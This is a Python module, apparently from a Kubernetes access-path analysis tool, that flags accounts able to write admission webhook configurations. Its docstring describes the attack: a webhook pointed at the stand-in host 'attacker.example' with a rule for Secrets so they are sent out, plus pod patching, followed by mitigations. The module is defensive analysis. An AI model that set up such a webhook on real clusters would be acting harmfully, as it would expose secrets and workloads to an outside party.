"""An admission webhook sees every object that is written to the API server, Secrets included, before it is stored; a
mutating one may change it too, pods for instance. Whoever may register one sends all of that to a server of his own.

## Needs

``create``, ``update`` or ``patch`` on ``mutatingwebhookconfigurations`` or ``validatingwebhookconfigurations`` of
``admissionregistration.k8s.io``, by a ClusterRoleBinding. A Secret shows itself when it is next written; a pod can be
changed when it is next made.

## Exploited

A configuration with ``url: https://attacker.example/`` and a rule for ``secrets``; from then on each creation and
change of a Secret arrives there as an AdmissionReview. With a rule for ``pods``, a patch adds a container that mounts
what it wants.

## Closed

Nobody but the installer of webhooks holds these rights; alert on changes of the configurations. A policy engine's own
account needs ``update`` on its configurations by name, not ``create``.

## References

- https://kubernetes.io/docs/concepts/security/rbac-good-practices/#control-admission-webhooks
- CIS Kubernetes Benchmark 5.1.12
- CVE-2024-45041, an operator that had these rights without need
"""

from __future__ import annotations

from collections.abc import Iterator

from strongroom.access.way import Way
from strongroom.access.world import World, grounds, who
from strongroom.model.access import Power, Step, power

_GROUP = "admissionregistration.k8s.io"
_KINDS = (
    ("mutatingwebhookconfigurations", (Power.READ_SECRETS, Power.RUN_PODS)),
    ("validatingwebhookconfigurations", (Power.READ_SECRETS,)),
)


def steps(world: World) -> Iterator[Step]:
    """Yield who sees what others write, and who changes it."""
    for resource, powers in _KINDS:
        for permission in world.holders(_GROUP, resource, "create", "update", "patch"):
            note = f"writes {resource}"
            for what in powers:
                yield Step(who(permission), power(what), WAY.id, grounds(permission, note), note=note)


WAY = Way("webhook-write", "sees and changes what is written, by an admission webhook", ("T1557", "T1552.007"), steps)
